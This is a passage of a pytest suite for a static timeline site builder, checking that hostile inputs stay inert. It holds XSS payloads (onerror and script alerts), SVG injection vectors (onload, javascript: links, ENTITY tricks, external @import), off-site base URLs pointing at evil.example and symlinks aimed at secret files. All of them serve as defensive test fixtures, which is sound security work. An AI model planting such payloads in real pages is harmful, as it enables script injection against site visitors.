        assert text_of(page, ".chip[data-filter=actor]") == [words(t.label) for t in timeline.actors]
        for event in timeline.events:
            assert text_of(page, f"[id='event-{event.id}'] .event-title") == [words(event.title)]
            named = list(dict.fromkeys(words(sources[c.source].name) for c in event.citations))
            assert text_of(page, f"[id='event-{event.id}'] .event-source a") == named
        # The overview: each chapter's link and each key event's label named by the whole text,
        # each line shown a piece of it as typed (a line too long is cut, and says so with "…").
        overview = page.eval_on_selector_all(
            ".overview-chart a",
            """links => links.map(a => [a.getAttribute('href'), a.getAttribute('aria-label'),
                [...a.querySelectorAll('text tspan')].map(t => t.textContent)])""",
        )
        chapters = [(name, lines) for href, name, lines in overview if href.startswith("#chapter-")]
        assert [name for name, _ in chapters] == [f"{n} {e.title}" for n, e in enumerate(timeline.eras, 1)]
        for (_, lines), era in zip(chapters, timeline.eras, strict=True):
            assert all(line.removesuffix("…") in era.title for line in lines), (lines, era.title)
        keyed = {f"events/{e.id}/index.html": e for e in timeline.events if e.key}
        labels = [(keyed[href], name, lines) for href, name, lines in overview if href in keyed]
        assert len(labels) == len(keyed) == len(overview) - len(chapters)
        for event, name, lines in labels:
            assert name == f"{event.key}, {display_range(event.date, event.end)}"
            assert all(line.removesuffix("…") in event.key for line in lines), (lines, event.key)
        reader.settle()

        for event in timeline.events:
            page = reader.open(f"events/{event.id}/index.html")
            assert page.title() == f"{event.title} — {site.title}"
            assert text_of(page, "h1") == [words(event.title)]
            if event.id == "event-1":
                # Markdown: raw HTML dropped, and what is meant as text is shown as text.
                summary = text_of(page, ".event-page > .event-summary")[0]
                assert [literal for literal in MARKDOWN_SHOWN if literal not in summary] == []
            assert text_of(page, ".breadcrumb a") == [words(eras[event.era].title)]
            assert text_of(page, ".date-note") == (
                [words(f"How this date was derived: {event.date_note}")] if event.date_note else []
            )
            assert text_of(page, ".status-unconfirmed") == (
                [words(f"Unconfirmed {event.status_note}")] if event.unconfirmed else []
            )
            assert text_of(page, ".tags a") == [words(topics[k]) for k in event.topics] + [
                words(actors[k]) for k in event.actors
            ]
            # One block per source, in order of first citation, its quotes under it.
            first = [c.source for c in event.citations]
            grouped = sorted(event.citations, key=lambda c, first=first: first.index(c.source))
            assert text_of(page, ".citation blockquote") == [words(c.quote) for c in grouped]
            assert text_of(page, ".citation-note") == [words(f"Note: {c.note}") for c in grouped if c.note]
            cited = list(dict.fromkeys(c.source for c in event.citations))
            assert text_of(page, ".source-block-header h3 a") == [words(sources[k].name) for k in cited]
            assert [
                m.startswith(words(sources[k].title))
                for k, m in zip(cited, text_of(page, ".source-block-meta"), strict=True)
            ] == [True] * len(cited)
            assert text_of(page, ".history-list li") == [
                words(f"{h.verb} on {h.date.display}: {h.note}") for h in event.history
            ]
            assert text_of(page, ".outside-facts li") == [
                words(f"{f.fact} Source: {f.record}.") for f in event.outside_facts
            ]
            # Cite, quote addresses and embed code: the text to copy is exactly what was typed.
            assert json.loads(page.locator("#cite-csl-json").text_content())[0]["title"] == event.title
            assert words(event.title) in words(page.locator("#cite-apa").text_content())
            assert page.locator("#embed-code").text_content() == embed.code(site, event)
            for number, citation in enumerate(event.citations, start=1):
                address = f"{site.base_url}sources/{citation.source}/index.html#q-{event.id}-{number}"
                assert page.locator(f"#quote-address-{number}").text_content() == address
            reader.settle()
            page = reader.open(f"embed/events/{event.id}/index.html")
            assert text_of(page, "h1") == [words(event.title)]
            assert text_of(page, "blockquote") == [words(embed.card_quote(event.citations[0].quote))]
            reader.settle()

        for withdrawal in timeline.withdrawn:
            page = reader.open(f"events/{withdrawal.id}/index.html")
            assert text_of(page, "h1") == [words(withdrawal.title)]
            assert words(withdrawal.reason) in text_of(page, ".event-page > p")
            reader.settle()
        page = reader.open("corrections/index.html")
        shown = words(page.locator("main").inner_text())
        assert all(words(h.note) in shown for e in timeline.events for h in e.history)
        assert all(words(w.title) in shown and words(w.reason) in shown for w in timeline.withdrawn)
        reader.settle()

        for source in timeline.sources:
            page = reader.open(f"sources/{source.id}/index.html")
            assert text_of(page, "h1") == [words(source.title)]
            assert text_of(page, ".source-meta dd")[0] == words(source.publisher)
            if source.url:
                link = page.locator(".source-meta a.url").first
                assert link.get_attribute("href") == source.url
                assert words(link.inner_text()) == source.url
            if source.url_note:
                assert words(source.url_note) in words(page.locator(".source-meta").inner_text())
            assert text_of(page, ".outside-facts li") == [
                words(f"{f.fact} Source: {f.record}.") for f in source.outside_facts
            ]
            assert json.loads(page.locator("#cite-csl-json").text_content())[0]["title"] == source.title
            document = words(page.locator(".reading").text_content() or "")
            assert [p for p in PLAIN if words(p) not in document] == []
            for event in timeline.events:
                for number, citation in enumerate(event.citations, start=1):
                    if citation.source == source.id:
                        anchor = page.locator(f"[id='q-{event.id}-{number}']")
                        marked = anchor.evaluate("a => (a.closest('mark') || a).textContent")
                        assert words(marked) in words(citation.quote), (event.id, number)
            reader.settle()

        for kind, terms in (("topics", timeline.topics), ("actors", timeline.actors)):
            for term in terms:
                page = reader.open(f"{kind}/{term.id}/index.html")
                assert text_of(page, "h1") == [words(term.label)]
                reader.settle()
        page = reader.open("sources/index.html")
        assert text_of(page, ".source-item h2") == [words(s.title) for s in timeline.sources]
        reader.settle()
        reader.check()
    finally:
        reader.close()


@pytest.mark.browser
def test_searching_the_hostile_build_shows_the_payloads_as_text(
    browser, hostile_site, hostile_base, timeline
):
    reader = reader_of(browser, hostile_site, hostile_base)
    try:
        page = reader.open("index.html")
        page.locator("#search-input").fill("onerror")
        page.locator("#search-results li a").first.wait_for()
        titles = text_of(page, "#search-results .search-title")
        known = {words(e.title) for e in timeline.events} | {words(s.title) for s in timeline.sources}
        assert titles
        assert [t for t in titles if t not in known] == []
        excerpts = " ".join(text_of(page, "#search-results .search-excerpt"))
        assert "<img src=x id=pwned onerror=alert('pwned')>" in excerpts
        assert page.evaluate(INJECTED, PAGE) == []
        reader.settle()
        reader.check()
    finally:
        reader.close()


# What TimelineJS shows of each slide's text, by slide, and the links it made.
SLIDE_TEXTS = """slides => Object.fromEntries(slides.map(s => [s.id,
    s.querySelector(".tl-text-content")?.textContent ?? null]))"""
MADE_LINKS = """links => links.map(a => [...a.attributes].map(x => `${x.name}=${x.value}`).join(" "))"""
MADE_LINK = r"class=tl-makelink href=\S+ onclick=void\(0\)"  # all TimelineJS gives a link it makes


def test_timeline_json_lists_hostile_background_on_its_title_slide_as_text(tmp_path, timeline):
    # Background from before the first chapter is listed on the title slide (timeline/exports.py):
    # the hostile event-3, moved to before its chapters, is listed there as typed.

    text = (HOSTILE / "events.yaml").read_text(encoding="utf-8")
    moved = "    date: 2020-02-03\n    era: era-2\n    background: true\n"
    assert moved in text
    data = tmp_path / "events.yaml"
    data.write_text(text.replace(moved, moved.replace("2020-02-03", "1999-02-03")), encoding="utf-8")
    checked = check(data, HOSTILE / "seeds")
    assert checked.errors == [], [p.message for p in checked.errors]
    assert checked.timeline is not None
    document = json.loads(exports.timeline_json(SiteData(checked.timeline, checked.seeds)))
    listed = document["title"]["text"]["text"]
    title = next(e.title for e in timeline.events if e.id == "event-3")
    assert for_timelinejs(listed) == (
        timeline.site.description + "Background, before the first chapter:" + f"3 February 1999: {title}"
    )
    assert "event-3" not in [slide["unique_id"] for slide in document["events"]]


@pytest.mark.browser
@pytest.mark.slow
@pytest.mark.parametrize("autolink", ["as built", "turned on"])
def test_the_hostile_timeline_json_stays_text_in_timelinejs(
    browser, hostile_site, serve, tmp_path, timeline, autolink
):
    """As built, no slide lets TimelineJS make links; turned on (TimelineJS's default, or a
    version that ignores the flag), its links still carry nothing but what it gives them."""
    from test_timelinejs import HARNESS, LIBRARY, SETTLED, STATE

    dist = require_node_tool("@knight-lab", "timelinejs", "dist")
    folder = tmp_path / "site"
    shutil.copytree(hostile_site, folder)
    if autolink == "turned on":
        data = json.loads((folder / "timeline.json").read_text(encoding="utf-8"))
        for slide in [data["title"], *data["events"]]:
            slide["autolink"] = True
        (folder / "timeline.json").write_text(json.dumps(data), encoding="utf-8")
    (folder / LIBRARY).symlink_to(dist, target_is_directory=True)
    (folder / "timelinejs-harness.html").write_text(HARNESS, encoding="utf-8")
    reader = Reader(browser, serve(folder), folder)
    try:
        page = reader.open("timelinejs-harness.html")
        page.wait_for_function(SETTLED, timeout=20_000)
        state = page.evaluate(STATE)
        assert state["ready"], state
        count = page.locator("#timeline-embed .tl-slide").count()
        page.evaluate("count => { for (let n = 0; n < count; n++) window.timeline.goTo(n); }", count)
        page.wait_for_timeout(300)  # an animation's handler would have run by now
        assert reader.dialogs == []
        embed = "#timeline-embed"
        # TimelineJS lays itself out with style attributes: those are its own.
        found = page.evaluate(INJECTED, {"scope": embed, "styles": False})
        # ...and so is the no-op handler of the links it makes of addresses in a text.
        assert [f for f in found if not f.startswith('onclick="void(0)" on <a class="tl-makelink"')] == []
        links = page.eval_on_selector_all(f"{embed} a.tl-makelink", MADE_LINKS)
        assert [a for a in links if not re.fullmatch(MADE_LINK, a)] == []
        headlines = text_of(page, f"{embed} .tl-slide:not(.tl-slide-titleslide) .tl-headline")
        assert sorted(headlines) == sorted(words(e.title) for e in timeline.events)
        groups = text_of(page, f"{embed} .tl-timegroup-message")
        assert sorted(groups) == sorted(words(e.title) for e in timeline.eras)
        eras = text_of(page, f"{embed} .tl-timeera-text")
        assert sorted(eras) == sorted(words(e.title) for e in timeline.eras)
        texts = page.eval_on_selector_all(f"{embed} .tl-slide", SLIDE_TEXTS)
        reader.settle()
        assert reader.dialogs == []
        assert [u for u in reader.requests if urlsplit(u).netloc != reader.host] == []
    finally:
        reader.close()
    if autolink == "as built":
        assert links == []
        # Every text reads as typed: no quote shown as &#39;, no address cut short into a link.
        site = json.loads((folder / "events.json").read_text(encoding="utf-8"))
        for event in site["events"]:
            assert words(texts[event["id"]]).startswith(words(audit(event["summary_html"]))), event["id"]
        title_slide = next(key for key in texts if key not in {e["id"] for e in site["events"]})
        assert words(texts[title_slide]) == words(timeline.site.description)


# ---- the policy on the real site --------------------------------------------------


@pytest.fixture(scope="module")
def real_base(built_site, serve):
    return serve(built_site)


@pytest.mark.browser
@pytest.mark.slow
def test_no_page_of_the_real_site_violates_its_policy(browser, built_site, real_base):
    reader = reader_of(browser, built_site, real_base)
    try:
        for path in html_pages(built_site):
            reader.open(path.relative_to(built_site).as_posix())
            reader.settle()
        reader.check()
    finally:
        reader.close()


@pytest.mark.browser
@pytest.mark.parametrize("where", ["web worker", "page"])
def test_search_runs_within_the_policy(browser, built_site, real_base, where):
    """Pagefind searches in a web worker; when the worker fails it compiles its WebAssembly on the page."""
    reader = reader_of(browser, built_site, real_base)
    if where == "page":
        reader.context.route("**/pagefind-worker.js", lambda route: route.abort())
    workers: list[str] = []
    try:
        page = reader.open("index.html")
        page.on("worker", lambda worker: workers.append(worker.url))
        page.locator("#search-input").fill("Bessent")
        page.locator("#search-results li a").first.wait_for(timeout=10_000)
        assert "Bessent" in " ".join(text_of(page, "#search-results .search-title"))
        reader.settle()
        assert any(u.endswith("/pagefind/wasm.en.pagefind") for u in reader.requests)
        fell_back = [w for w in reader.warnings if "falling back to main thread" in w]
        if where == "page":
            assert fell_back, reader.warnings
        else:
            assert [u for u in workers if u.endswith("/pagefind/pagefind-worker.js")]
            assert fell_back == []
        reader.check()
    finally:
        reader.close()


# ---- the site's address: 404.html links from its path --------------------------------------

# Addresses whose path a browser reads as starting with '//', a network-path reference: the
# 404 page's links, which start from that path, would lead to evil.example.
OFF_SITE = [
    "https://example.org//evil.example/",
    "https://example.org/\\evil.example/",
    "https://example.org/\\/evil.example/",
    "https://example.org/\t/evil.example/",
    "https://example.org/\n/evil.example/",
]
ADDRESS_RULE = (
    "must be an absolute http(s) address ending in '/', with no '//' after the host and no "
    "backslash, space, '?' or '#', such as 'https://example.org/timeline/'"
)


def with_base_url(tmp_path: Path, address: str) -> Path:
    valid = ROOT / "tests" / "fixtures" / "valid"
    text = (valid / "events.yaml").read_text(encoding="utf-8")
    assert "  base_url: https://example.org/test/\n" in text
    data = tmp_path / "events.yaml"
    data.write_text(text.replace("https://example.org/test/", json.dumps(address)), encoding="utf-8")
    return data


# Not off-site from 404.html, but no address a site is published at: no host, an empty part, a
# line break after the last '/' (which Python's `$` would let through).
ODD = ["https:///evil.example/", "https://example.org/a//b/", "https://example.org/\n"]


@pytest.mark.parametrize("address", OFF_SITE + ODD)
def test_the_check_refuses_a_base_url_a_browser_reads_as_another_host(tmp_path, address):
    checked = check(with_base_url(tmp_path, address), ROOT / "tests" / "fixtures" / "valid" / "seeds")
    assert [(p.line, p.column, ADDRESS_RULE in p.message) for p in checked.problems] == [(6, 13, True)]


@pytest.mark.parametrize("address", OFF_SITE + ODD)
def test_build_refuses_such_an_address_given_as_base_url_option(tmp_path, address):
    result = run_build(tmp_path / "site", "--base-url", address)
    assert result.returncode == 2
    assert f"argument --base-url: base_url {ADDRESS_RULE}" in result.stderr
    assert not (tmp_path / "site").exists()


@pytest.mark.parametrize("address", OFF_SITE)
def test_404_links_are_never_made_from_such_an_address(address):
    # The last line of defence, should an address reach the renderer unchecked.
    with pytest.raises(ValueError, match="a browser would not read as this site's"):
        site_path(address)


def test_a_published_address_gives_404_its_path():
    assert site_path("https://example.org/") == "/"
    assert site_path("https://owner.github.io/timeline/") == "/timeline/"
    assert address_problem("https://owner.github.io/timeline/") is None


# ---- what is published: the site's own pages, each archived document as plain text ------------

# (name, whether a source may name it). One extension, .txt, which every host serves as text/plain.
SEED_NAMES = [
    ("004_85f1257b8790f843.txt", True), ("hostile-1.txt", True), ("A_b-9.txt", True),
    ("a" * 96 + ".txt", True), ("a" * 97 + ".txt", False), ("report.html", False),
    ("chart.svg", False), ("index.html", False), ("report.html.txt", False), ("x.php.txt", False),
    ("report.TXT", False), ("report", False), (".hidden.txt", False), ("-x.txt", False),
    ("report.txt\n", False), ("sub/x.txt", False), ("../x.txt", False), ("", False),
]  # fmt: skip


@pytest.mark.parametrize(("name", "accepted"), SEED_NAMES)
def test_the_check_and_the_seeds_folder_apply_one_rule_to_seed_names(name, accepted, tmp_path):
    """Seeds.path applies the schema's own rule: no path around the check reads a name it refuses."""
    file_rule = load_schema()["properties"]["sources"]["items"]["properties"]["file"]
    assert jsonschema_rs.validator_for(file_rule).is_valid(name) is accepted
    seeds_folder = tmp_path / "seeds"
    seeds_folder.mkdir()
    if "/" not in name and name:
        (seeds_folder / name).write_text("text\n", encoding="utf-8")
    seeds = Seeds(seeds_folder, tmp_path)
    if accepted:
        assert seeds.raw(name) == b"text\n"
        return
    with pytest.raises(SeedFileError) as refused:
        seeds.raw(name)
    assert str(refused.value).startswith(f"'{shown(name)}' ")
    assert str(refused.value).endswith(
        (file_rule["patternErrorMessage"], "over the limit of 100; shorten it")
    )


@pytest.mark.parametrize(
    ("file", "archived"),
    [
        ("004_85f1257b8790f843.txt", "004_85f1257b8790f843.txt"),
        ("report.html", "report.txt"),
        ("chart.svg", "chart.txt"),
        ("index.html", "index.txt"),
        ("report.html.txt", "report.txt"),
    ],
)
def test_the_archived_copy_is_named_txt_whatever_the_seeds_name(file, archived):
    """Defence in depth behind the check: a name it refuses would still be published as text."""
    source = Source("s", file, "Title", "Publisher", PartialDate.parse("2014"), "high", "Assessment.")
    assert source.archived_name == archived


@pytest.mark.parametrize("build", ["built_site", "hostile_site"])
def test_a_source_folder_holds_its_page_and_its_document_as_a_txt_file(build, request):
    site = request.getfixturevalue(build)
    records = json.loads((site / "events.json").read_text(encoding="utf-8"))["sources"]
    assert records
    for record in records:
        folder = site / "sources" / record["id"]
        archived = record["file"].removeprefix(f"sources/{record['id']}/")
        assert archived.endswith(".txt")
        assert "/" not in archived
        assert sorted(p.name for p in folder.iterdir()) == sorted(["index.html", archived])
        assert f'<a href="{archived}">{archived}</a>' in (folder / "index.html").read_text(encoding="utf-8")
    assert [p.name for p in (site / "sources").iterdir() if p.is_file()] == ["index.html"]


@pytest.mark.browser
def test_an_archived_document_opens_as_plain_text_whatever_it_holds(browser, hostile_site, hostile_base):
    documents = sorted(hostile_site.glob("sources/*/*.txt"))
    assert len(documents) == 6
    reader = reader_of(browser, hostile_site, hostile_base)
    try:
        for document in documents:
            page = reader.open(document.relative_to(hostile_site).as_posix())
            page.wait_for_timeout(50)  # an onerror or onload would have fired by now
            assert page.evaluate("document.contentType") == "text/plain"
            # Chromium shows text in a <pre> it styles itself; anything else would be the document's.
            assert page.evaluate(INJECTED, {"scope": None, "styles": False}) == []
            assert page.evaluate("[...document.body.children].map(e => e.tagName)") == ["PRE"]
            assert "<script>alert('pwned')</script>" in page.locator("body").inner_text()
        reader.check()
    finally:
        reader.close()


def indexed_addresses(site: Path) -> set[str]:
    """The address of every page in the site's Pagefind index (each fragment is one page)."""
    addresses = set()
    for fragment in (site / "pagefind" / "fragment").iterdir():
        raw = gzip.decompress(fragment.read_bytes())
        addresses.add(json.loads(raw[raw.index(b"{") :])["url"])
    return addresses


def site_pages(site: Path) -> set[str]:
    records = json.loads((site / "events.json").read_text(encoding="utf-8"))
    return {f"/events/{e['id']}/" for e in records["events"]} | {
        f"/sources/{s['id']}/" for s in records["sources"]
    }


def test_search_indexes_exactly_the_pages_of_events_and_sources(built_site):
    assert indexed_addresses(built_site) == site_pages(built_site)


# An archived file that is a page of its own, with the markup that asks Pagefind to index it.
PLANTED = (
    "<!doctype html><html lang=en><head><title>Owned headline</title></head><body>"
    "<main data-pagefind-body><h1>Owned headline</h1><p>Zyzzogeton</p></main></body></html>"
)


def test_search_never_indexes_a_file_beside_the_sites_pages(built_site, tmp_path):
    """The real Pagefind, over the real site with pages planted where an archived file could be."""
    site = tmp_path / "site"
    shutil.copytree(built_site, site, ignore=shutil.ignore_patterns("pagefind"))
    source = next(iter(sorted((site / "sources").glob("*/index.html")))).parent
    event = next(iter(sorted((site / "events").glob("*/index.html")))).parent
    planted = [source / "report.html", source / "chart.svg.html", source / "deeper" / "index.html",
               event / "report.html", site / "sources" / "index.html"]  # fmt: skip
    for path in planted:
        path.parent.mkdir(exist_ok=True)
        path.write_text(PLANTED, encoding="utf-8")
    assert search.index(site) == f"search: indexed {len(site_pages(site))} pages"
    assert indexed_addresses(site) == site_pages(site)
    for fragment in (site / "pagefind" / "fragment").iterdir():
        assert b"Zyzzogeton" not in gzip.decompress(fragment.read_bytes())


# ---- nothing from outside the project: no symbolic link is followed --------------------------

SECRET = "root:x:0:0:the secret that must not be published\n"


def _outside_project(tmp_path: Path) -> Path:
    """The valid fixture with its own site_src/, in a folder beside a secret file and folder."""
    folder = tmp_path / "project"
    shutil.copytree(FIXTURES / "valid", folder)
    shutil.copytree(ROOT / "site_src", folder / "site_src")
    (tmp_path / "secret.txt").write_text(SECRET, encoding="utf-8")
    (tmp_path / "secrets").mkdir()
    (tmp_path / "secrets" / "config").write_text(SECRET, encoding="utf-8")
    return folder


def _link_seeds_outside(folder: Path) -> str:
    shutil.move(folder / "seeds", folder.parent / "elsewhere")
    (folder / "seeds").symlink_to(folder.parent / "elsewhere")
    return f"the seeds folder seeds is a symbolic link (to {folder.parent / 'elsewhere'})"


def _link_seeds_inside(folder: Path) -> str:
    shutil.move(folder / "seeds", folder / "documents")
    (folder / "seeds").symlink_to("documents")
    return "the seeds folder seeds is a symbolic link (to documents)"


def _link_asset_to_file(folder: Path) -> str:
    (folder / "site_src" / "assets" / "passwd.css").symlink_to(folder.parent / "secret.txt")
    return f"site_src/assets/passwd.css is a symbolic link (to {folder.parent / 'secret.txt'})"


def _link_asset_to_folder(folder: Path) -> str:
    (folder / "site_src" / "assets" / "fonts").mkdir()
    (folder / "site_src" / "assets" / "fonts" / "git").symlink_to(folder.parent / "secrets")
    return f"site_src/assets/fonts/git is a symbolic link (to {folder.parent / 'secrets'})"


def _link_page(folder: Path) -> str:
    (folder / "site_src" / "about.md").unlink()
    (folder / "site_src" / "about.md").symlink_to(folder.parent / "secret.txt")
    return f"site_src/about.md is a symbolic link (to {folder.parent / 'secret.txt'})"


def _link_site_src(folder: Path) -> str:
    shutil.move(folder / "site_src", folder.parent / "secrets" / "site_src")
    (folder / "site_src").symlink_to(folder.parent / "secrets" / "site_src")
    return f"site_src is a symbolic link (to {folder.parent / 'secrets' / 'site_src'})"


def _link_data_inside(folder: Path) -> str:
    """F10: a link to a new file in the project, which has no published history at the base."""
    (folder / "data").mkdir()
    shutil.move(folder / "events.yaml", folder / "data" / "events.yaml")
    (folder / "events.yaml").symlink_to("data/events.yaml")
    return "events.yaml is a symbolic link (to data/events.yaml)"


def _link_data_outside(folder: Path) -> str:
    (folder / "events.yaml").unlink()
    (folder / "events.yaml").symlink_to(folder.parent / "secrets" / "config")
    return f"events.yaml is a symbolic link (to {folder.parent / 'secrets' / 'config'})"


LINKS = {
    "data file linked inside": (_link_data_inside, "replace the link by the file itself"),
    "data file linked outside": (_link_data_outside, "replace the link by the file itself"),
    "seeds folder linked outside": (_link_seeds_outside, "replace the link by the folder itself"),
    "seeds folder linked inside": (_link_seeds_inside, "replace the link by the folder itself"),
    "asset linked to a file outside": (_link_asset_to_file, "replace the link by a copy of what it points to"),
    "asset linked to a folder outside": (_link_asset_to_folder, "replace the link by a copy of what it points to"),
    "page linked to a file outside": (_link_page, "replace the link by a copy of the file"),
    "site_src linked outside": (_link_site_src, "replace the link by the folder itself"),
}  # fmt: skip


def _build_py(folder: Path, *args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, str(ROOT / "build.py"), *args, "--data", "events.yaml"],
        cwd=folder, capture_output=True, encoding="utf-8", check=False,
    )  # fmt: skip


def _tree(folder: Path) -> dict[str, bytes | None]:
    return {str(p.relative_to(folder)): None if p.is_dir() else p.read_bytes() for p in folder.rglob("*")}


@pytest.mark.parametrize("case", LINKS)
def test_a_symbolic_link_is_refused_and_nothing_outside_the_project_is_published(case, tmp_path):
    folder = _outside_project(tmp_path)
    built = _build_py(folder, "build", "--out", "site")
    assert built.returncode == 0, built.stdout + built.stderr
    make, advice = LINKS[case]
    what = make(folder)
    before = _tree(tmp_path)
    message = f"error: {what}: the site publishes only real files inside the project; {advice}"
    result = _build_py(folder, "build", "--out", "site")
    assert "Traceback" not in result.stderr
    # The data file and the seeds are refused as they are read, before a build starts; site_src/ as it is copied.
    read_first = case.startswith(("seeds", "data"))
    said = message if read_first else f"{message} (site is unchanged)"
    assert (result.returncode, result.stdout, result.stderr.splitlines()[0]) == (2, "", said)
    assert _tree(tmp_path) == before, "the previous site is as it was, and nothing was left beside it"
    checked = _build_py(folder, "check")
    if case.startswith("page"):  # the check reads events.yaml, the seeds and the assets, not the pages
        assert checked.returncode == 0, checked.stdout + checked.stderr
    else:
        assert (checked.returncode, checked.stdout, checked.stderr) == (2, "", message + "\n")


def test_a_page_nesting_lists_too_deep_is_refused_in_one_line(tmp_path):
    """F14: 600 nested list markers in site_src/about.md made Python-Markdown recurse until a
    RecursionError traceback; now one line, status 2, and the previous site as it was."""
    folder = _outside_project(tmp_path)
    assert _build_py(folder, "build", "--out", "site").returncode == 0
    (folder / "site_src" / "about.md").write_text("# About\n\n" + "- " * 600 + "x\n", encoding="utf-8")
    before = _tree(tmp_path)
    result = _build_py(folder, "build", "--out", "site")
    assert (result.returncode, result.stdout, result.stderr) == (
        2,
        "",
        "error: site_src/about.md nests lists or quotes 600 deep at its line 3, more than 20; flatten it "
        "(site is unchanged)\n",
    )
    assert _tree(tmp_path) == before


def test_a_seeds_folder_reached_through_a_link_in_the_project_is_refused(tmp_path):
    folder = _outside_project(tmp_path)
    (tmp_path / "elsewhere").mkdir()
    shutil.move(folder / "seeds", tmp_path / "elsewhere" / "seeds")
    (folder / "docs").symlink_to(tmp_path / "elsewhere")
    result = _build_py(folder, "check", "--seeds", "docs/seeds")
    assert (result.returncode, result.stdout, result.stderr) == (
        2,
        "",
        "error: the seeds folder docs/seeds leads outside the project through a symbolic link: "
        "the site publishes only real files inside the project; use a real folder\n",
    )


def test_a_seeds_folder_named_outside_the_project_is_the_operators_choice(tmp_path):
    """--seeds with a real folder elsewhere (a test's, a shared archive) works as before."""
    folder = _outside_project(tmp_path)
    shutil.move(folder / "seeds", tmp_path / "archive")
    result = _build_py(folder, "check", "--strict", "--seeds", str(tmp_path / "archive"))
    assert result.returncode == 0, result.stdout + result.stderr


# ---- site_src/assets/: only the kinds of file the pages load, and SVG without script ---------

SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">{}</svg>'
KINDS = "an asset must be a .css, .js, .svg, .png, .webp, .ico or .woff2 file"
NAMED = "an asset's name must start with a letter or digit and hold only letters, digits, '.', '_' and '-'"
IN_SVG = "an SVG asset may not contain"

# Each: the file added to site_src/assets/, its content, and the refusal that follows its name.
ASSETS = {
    "an HTML page": ("help.html", "<!doctype html><script>alert(1)</script>",
                     f"{KINDS} (pages come from templates/ and the Markdown of site_src/); remove it"),
    "a dotfile": (".htaccess", "AddType text/html .txt", f"{NAMED}; rename or remove it"),
    "a name with a space": ("my logo.css", "a {}", f"{NAMED}; rename or remove it"),
    "a folder named as a dotfile": (".well-known/x.css", "a {}", f"{NAMED}; rename or remove it"),
    "an upper-case extension": ("LOGO.SVG", SVG.format("<script>alert(1)</script>"),
                                f"{KINDS} (pages come from templates/ and the Markdown of site_src/); remove it"),
    "an SVG with script": ("logo.svg", SVG.format("<script>alert(document.domain)</script>"),
                           f"{IN_SVG} a <script> element; remove it from the file"),
    "an SVG with XHTML script": ("logo.svg", SVG.format('<h:script xmlns:h="http://www.w3.org/1999/xhtml">'
                                 "alert(1)</h:script>"), f"{IN_SVG} an HTML or MathML element (<script>); remove it from the file"),
    "an SVG with an HTML form": ("logo.svg", SVG.format('<h:form xmlns:h="http://www.w3.org/1999/xhtml" '
                                 'action="https://example.org/"/>'),
                                 f"{IN_SVG} an HTML or MathML element (<form>); remove it from the file"),
    "an XHTML page named .svg": ("logo.svg", '<html xmlns="http://www.w3.org/1999/xhtml"><body>x</body></html>',
                                 f"{IN_SVG} anything but an <svg> root element in the SVG namespace; "
                                 "remove it from the file"),
    "an SVG with onload": ("logo.svg", SVG.format('<rect width="1" height="1" onload="alert(1)"/>'),
                           f"{IN_SVG} an event handler attribute (onload); remove it from the file"),
    "an SVG with foreignObject": ("logo.svg", SVG.format("<foreignObject><p>x</p></foreignObject>"),
                                  f"{IN_SVG} a <foreignObject> element; remove it from the file"),
    "an SVG with an external href": ("logo.svg", SVG.format('<image xlink:href="https://example.org/a.png"/>'),
                                     f"{IN_SVG} a reference outside the file (href='https://example.org/a.png'); "
                                     "remove it from the file"),
    "an SVG with a script link": ("logo.svg", SVG.format('<a href="javascript:alert(1)"><text>x</text></a>'),
                                  f"{IN_SVG} a reference outside the file (href='javascript:alert(1)'); "
                                  "remove it from the file"),
    "an SVG animating an href": ("logo.svg", SVG.format('<a href="#x"><set attributeName="href" '
                                 'to="javascript:alert(1)"/><text>x</text></a>'),
                                 f"{IN_SVG} an animation of href; remove it from the file"),
    "an SVG with a DOCTYPE and ENTITY": ("logo.svg", '<!DOCTYPE svg [<!ENTITY s "&#60;script&#62;alert(1)'
                                         '&#60;/script&#62;">]>' + SVG.format("&s;"),
                                         f"{IN_SVG} a DOCTYPE or ENTITY declaration; remove it from the file"),
    "an SVG with a style sheet instruction": ("logo.svg", '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" '
                                              'href="#x"?>' + SVG.format(""),
                                              f"{IN_SVG} a processing instruction (<?...?>); remove it from the file"),
    "an SVG whose style loads": ("logo.svg", SVG.format("<style>@import 'https://example.org/x.css';</style>"),
                                 f"{IN_SVG} a style that loads anything (url(...) outside the file, @import); "
                                 "remove it from the file"),
}  # fmt: skip


@pytest.mark.parametrize("case", ASSETS)
def test_an_asset_the_site_must_not_publish_is_refused_and_the_previous_site_kept(case, tmp_path):
    folder = _outside_project(tmp_path)
    built = _build_py(folder, "build", "--out", "site")
    assert built.returncode == 0, built.stdout + built.stderr
    name, content, refusal = ASSETS[case]
    path = folder / "site_src" / "assets" / name
    path.parent.mkdir(exist_ok=True)
    path.write_text(content, encoding="utf-8")
    before = _tree(tmp_path)
    message = f"error: site_src/assets/{name}: {refusal}"
    result = _build_py(folder, "build", "--out", "site")
    assert (result.returncode, result.stdout, result.stderr) == (2, "", f"{message} (site is unchanged)\n")
    assert _tree(tmp_path) == before, "the previous site is as it was, and nothing was left beside it"
    # What the check accepts, the build builds: the check refuses it too.
    checked = _build_py(folder, "check", "--strict")
    assert (checked.returncode, checked.stdout, checked.stderr) == (2, "", message + "\n")


def test_the_real_assets_and_a_plain_svg_are_published_as_they_are(tmp_path):
    folder = _outside_project(tmp_path)
    plain = SVG.format('<defs><linearGradient id="g"/></defs><rect fill="url(#g)" width="1" height="1"/>'
                       '<use href="#g"/><!-- a comment --><style><![CDATA[rect { fill: url(#g) }]]></style>')  # fmt: skip
    (folder / "site_src" / "assets" / "plain.svg").write_text(plain, encoding="utf-8")
    built = _build_py(folder, "build", "--out", "site")
    assert built.returncode == 0, built.stdout + built.stderr
    published = sorted(p.name for p in (folder / "site" / "assets").iterdir())
    assert published == ["embed.css", "favicon.svg", "plain.svg", "site.js", "style.css"]
    for name in ("embed.css", "favicon.svg", "site.js", "style.css"):
        assert (folder / "site" / "assets" / name).read_bytes() == (
            ROOT / "site_src" / "assets" / name
        ).read_bytes()
    assert (folder / "site" / "assets" / "plain.svg").read_text(encoding="utf-8") == plain
